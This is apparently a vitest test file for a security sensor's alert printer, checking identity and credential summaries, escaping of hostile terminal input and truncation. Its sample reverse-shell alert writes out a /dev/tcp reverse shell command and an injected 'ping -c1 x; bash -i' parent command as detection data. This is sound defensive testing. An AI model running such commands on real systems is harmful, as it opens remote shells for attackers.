import fc from 'fast-check'
import { expect, test } from 'vitest'
import { pretty } from '../../exporters/pretty.ts'
import { type Alert, severities } from '../../sensor/alert.ts'
import { hostile } from './hostile.ts'
import { bareAlert, sampleAlert } from './sample.ts'

/** The same alert with every text in it, keys of tags included, replaced by the next of `texts`. */
function poisoned(alert: Alert, texts: string[]): Alert {
  let index = 0
  const next = () => texts[index++ % texts.length] ?? ''
  const poison = (value: unknown): unknown => {
    if (typeof value === 'string') return next()
    if (Array.isArray(value)) return value.map(poison)
    if (typeof value !== 'object' || value === null) return value
    return Object.fromEntries(Object.entries(value).map(([key, inner]) => [key, poison(inner)]))
  }
  const tags = { [next()]: [next(), next()] }
  return {
    ...(poison(alert) as Alert),
    severity: alert.severity,
    rule: { ...(poison(alert.rule) as Alert['rule']), tags },
  }
}

const identity: Alert['identity'] = {
  subject: 'system:serviceaccount:payments:checkout',
  kind: 'service_account',
  freshness: 'live',
  credential: {
    kind: 'projected',
    audiences: ['sts.amazonaws.com'],
    expiration_seconds: 3607,
    api_server: true,
    automounted: true,
    secret: { name: 'old', age_days: 400 },
  },
  cloud: [
    { provider: 'aws', principal: 'arn:aws:iam::111122223333:role/checkout', source: 'eks_irsa', held: true },
    { provider: 'gcp', source: 'node_role', held: false },
  ],
  spiffe_id: 'spiffe://example.org/ns/payments/sa/checkout',
  secrets: [{ name: 'db', via: 'env' }],
  shared_with: ['Deployment/cart', 'CronJob/report'],
  missing: ['namespaces'],
  blast_radius: {
    ...{ score: 96, level: 'critical' },
    paths: ['Read Secrets', 'Create pods', 'Write / of the node', 'Read pods'].map((title) => ({ title })),
  },
  reach: {
    data_stores: [
      { type: 'postgresql', name: 'payments/db', port: 5432, policy: 'allowed' },
      { type: 'redis', name: 'shop/redis', port: 6379, policy: 'unknown' },
    ],
  },
}

test('how far the identity reaches, what it holds, whom it can act as, and who else has it', () => {
  const lines = pretty(sampleAlert({ identity }), { color: false }).split('\n')
  const at = lines.findIndex((line) => line.startsWith('  identity '))
  expect(lines.slice(at, at + 8)).toEqual([
    '  identity   system:serviceaccount:payments:checkout',
    '  radius     critical, 96 of 100: Read Secrets; Create pods; Write / of the node; 1 more',
    '  data       postgresql payments/db:5432, redis shop/redis:6379 (NetworkPolicies leave it open)',
    '  holds      token for the API server, sts.amazonaws.com (automounted); secrets db (env)',
    '  cloud      aws arn:aws:iam::111122223333:role/checkout (eks_irsa), gcp (node_role, not held)',
    '  spiffe     spiffe://example.org/ns/payments/sa/checkout',
    '  shared     with Deployment/cart, CronJob/report',
    '  missing    not looked up: namespaces',
  ])
  const holding = (kind: string) => {
    const credential = { ...identity.credential, kind }
    const text = pretty(sampleAlert({ identity: { ...identity, credential } }), { color: false })
    return text.split('\n').find((line) => line.startsWith('  holds'))
  }
  expect(holding('none')).toBe('  holds      no token; secrets db (env)')
  expect(holding('legacy_secret')).toContain('that never expires (Secret old, 400 days old)')
})

test('whatever the values are, an alert is printed as the same lines with nothing in them that a terminal obeys', () => {
  const texts = fc.array(hostile, { minLength: 1, maxLength: 20 })
  fc.assert(
    fc.property(texts, fc.constantFrom(...severities), (chosen, severity) => {
      const alert = sampleAlert({ severity, identity })
      const attack = poisoned(alert, chosen)
      const plain = pretty(attack, { color: false })
      expect(plain.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u)
      expect(plain.split('\n').length).toBe(pretty(alert, { color: false }).split('\n').length)
      // biome-ignore lint/suspicious/noControlCharactersInRegex: the colours that pretty() itself writes
      expect(pretty(attack, { color: true }).replace(/\x1b\[\d+m/g, '')).toBe(plain)
    }),
    { numRuns: 300 },
  )
})

test('a person sees what happened, who did it, from where it came, where it leads and what to do', () => {
  expect(pretty(sampleAlert(), { color: false })).toBe(
    [
      'CRITICAL  Reverse shell  2026-03-01T12:34:56.789Z  node node-1  priority 95',
      '  bash takes its commands from 203.0.113.9:4444',
      '  pod        payments/checkout-7d9f-x2x, Deployment checkout, cluster prod-eu',
      '  identity   system:serviceaccount:payments:checkout (stale: the API server is away)',
      '  container  app, registry.example/shop/checkout:1.4.2, containerd 3f2a9c81b7d0',
      '  process    bash -c "echo \'it works\'; exec 3<>/dev/tcp/203.0.113.9/4444"',
      '             pid 4711, parent 4700, user www-data (33), in /var/www, file /usr/bin/bash',
      '  stdio      stdin, stdout: socket 203.0.113.9:4444 (outbound); stderr: pipe through socat (4712); commands from stdin',
      '  to         [2001:db8::9]:4444 tcp from [2001:db8::1]:40112',
      "  parent     sh -c 'ping -c1 x; bash -i'",
      '  lineage    containerd-shim (4500) → php-fpm (4600) → sh (4700) → bash (4711)',
      '  blind      for 4.2 s, probe_exited, 12 events lost, signal SIGKILL',
      '  seen       3 times, 2026-03-01T12:34:50.000Z to 2026-03-01T12:34:56.789Z',
      '  lost       7 events since the sensor started',
      '  rule       execution/reverse-shell, mitre T1059.004 T1071, owasp_nhi NHI5',
      '  runbook    https://runbooks.example/reverse-shell',
      '',
      '',
    ].join('\n'),
  )
})

test('what is not known has no line', () => {
  expect(pretty(bareAlert(), { color: false })).toBe(
    [
      'MEDIUM  The sensor was blind  2026-03-01T12:34:56.789Z  node node-1  priority 50',
      '  the probe ended',
      '  rule       sensor/sensor-gap',
      '',
      '',
    ].join('\n'),
  )
})

test('without an argument list the command line is shown, else the file', () => {
  const shown = (process: Alert['process']) => pretty(bareAlert({ process }), { color: false })
  expect(shown({ command_line: 'nginx: worker' })).toContain('process    nginx: worker\n')
  expect(shown({ executable: { path: '/tmp/x', deleted: true } })).toContain('file /tmp/x (deleted)')
})

test('a huge argument is cut, and the cut is told', () => {
  const args = ['sh', '-c', '🦜'.repeat(100_000)]
  const printed = pretty(bareAlert({ process: { command_args: args, args_truncated: true } }), { color: false })
  expect(printed.length).toBeLessThan(2000)
  expect(printed).toMatch(/… \(\d+ more characters\) … \(the sensor read no further\)/)
  expect(printed.isWellFormed()).toBe(true)
})
